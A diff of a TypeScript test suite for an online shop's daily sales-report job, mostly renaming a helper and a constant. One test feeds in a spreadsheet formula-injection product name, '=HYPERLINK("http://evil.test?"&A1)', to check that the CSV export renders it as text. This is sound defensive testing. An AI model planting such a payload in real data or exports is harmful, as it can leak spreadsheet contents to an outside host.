@@ -9,7 +9,7 @@ import { address, customer, openShop, warehouse } from '../../support/shop.ts';
 type Wrap = { orders?: (orders: Orders) => Orders; reports?: (reports: Reports) => Reports };
 
 /** A shop that sells from 1 March 2026, and its report job. `wrap` wraps the job's ports. */
-const reportedShop = (wrap: Wrap = {}) => {
+const openReportedShop = (wrap: Wrap = {}) => {
   const shop = openShop();
   const reports = inMemoryReports();
   shop.clock.set('2026-03-01T10:00:00.000Z');
@@ -51,11 +51,11 @@ const reportedShop = (wrap: Wrap = {}) => {
   };
 };
 
-const none = { placed: 0, confirmed: 0, rejected: 0, cancelled: 0, shipped: 0, units: 0, revenue: 0 };
+const noSales = { placed: 0, confirmed: 0, rejected: 0, cancelled: 0, shipped: 0, units: 0, revenue: 0 };
 
 /** Two days: an order is placed and confirmed on the first, and cancelled on the second. */
 const twoDays = async (wrap?: Wrap) => {
-  const shop = reportedShop(wrap);
+  const shop = openReportedShop(wrap);
   await shop.product('mug', 10, { amount: 1250 });
   const id = await shop.order('mug', 2);
   await shop.drain();
@@ -68,7 +68,7 @@ test('each event counts on its own day, and the bytes of a day that is reported 
   expect(await shop.report()).toEqual({ reported: 1, left: 0 });
 
   const first = { json: await shop.text('2026-03-01'), csv: await shop.text('2026-03-01', 'csv') };
-  const sold = { ...none, placed: 1, confirmed: 1, units: 2, revenue: 2500 };
+  const sold = { ...noSales, placed: 1, confirmed: 1, units: 2, revenue: 2500 };
   expect(JSON.parse(first.json)).toEqual({
     date: '2026-03-01',
     totals: [{ currency: 'EUR', ...sold }],
@@ -80,7 +80,7 @@ test('each event counts on its own day, and the bytes of a day that is reported 
   shop.clock.set('2026-03-03T02:00:00.000Z');
 
   expect(await shop.report()).toEqual({ reported: 1, left: 0 });
-  expect((await shop.json('2026-03-02')).totals).toEqual([{ currency: 'EUR', ...none, cancelled: 1 }]);
+  expect((await shop.json('2026-03-02')).totals).toEqual([{ currency: 'EUR', ...noSales, cancelled: 1 }]);
   expect({ json: await shop.text('2026-03-01'), csv: await shop.text('2026-03-01', 'csv') }).toEqual(first);
 
   // A report of today has the same bytes: nothing was taken back from the first day.
@@ -94,7 +94,7 @@ test('each event counts on its own day, and the bytes of a day that is reported 
 });
 
 test('an order that is short is rejected on its day, one that leaves is shipped on its day', async () => {
-  const shop = reportedShop();
+  const shop = openReportedShop();
   await shop.product('mug', 2);
   const id = await shop.order('mug', 2);
   await shop.drain();
@@ -109,7 +109,7 @@ test('an order that is short is rejected on its day, one that leaves is shipped 
   const [first] = (await shop.json('2026-03-01')).totals;
 
   expect(first).toMatchObject({ placed: 2, confirmed: 1, rejected: 1, shipped: 0, units: 2, revenue: 2000 });
-  expect((await shop.json('2026-03-03')).products).toMatchObject([{ ...none, productId: 'mug', shipped: 1 }]);
+  expect((await shop.json('2026-03-03')).products).toMatchObject([{ ...noSales, productId: 'mug', shipped: 1 }]);
 });
 
 test('a day is open until a quarter of an hour after its end', async () => {
@@ -121,7 +121,7 @@ test('a day is open until a quarter of an hour after its end', async () => {
 });
 
 test('a shop without orders has no reports', async () => {
-  const shop = reportedShop();
+  const shop = openReportedShop();
   expect(await shop.report()).toEqual({ reported: 0, left: 0 });
   expect(shop.reports.names()).toEqual([]);
 });
@@ -313,7 +313,7 @@ test('a long run starts no further day after some minutes and says how many are 
 });
 
 test('currencies have totals and rows of their own', async () => {
-  const shop = reportedShop();
+  const shop = openReportedShop();
   await shop.product('mug', 10, { amount: 1250 });
   await shop.product('cup', 10, { amount: 900, currency: 'USD' });
   await shop.order('mug', 2);
@@ -334,7 +334,7 @@ test('currencies have totals and rows of their own', async () => {
 });
 
 test('a name that a spreadsheet would calculate is unchanged in JSON, and text in CSV', async () => {
-  const shop = reportedShop();
+  const shop = openReportedShop();
   const name = '=HYPERLINK("http://evil.test?"&A1)';
   const details = { name, price: { amount: 100, currency: 'EUR' }, active: true };
   await shop.put({ id: 'mug', details, precondition: {} });
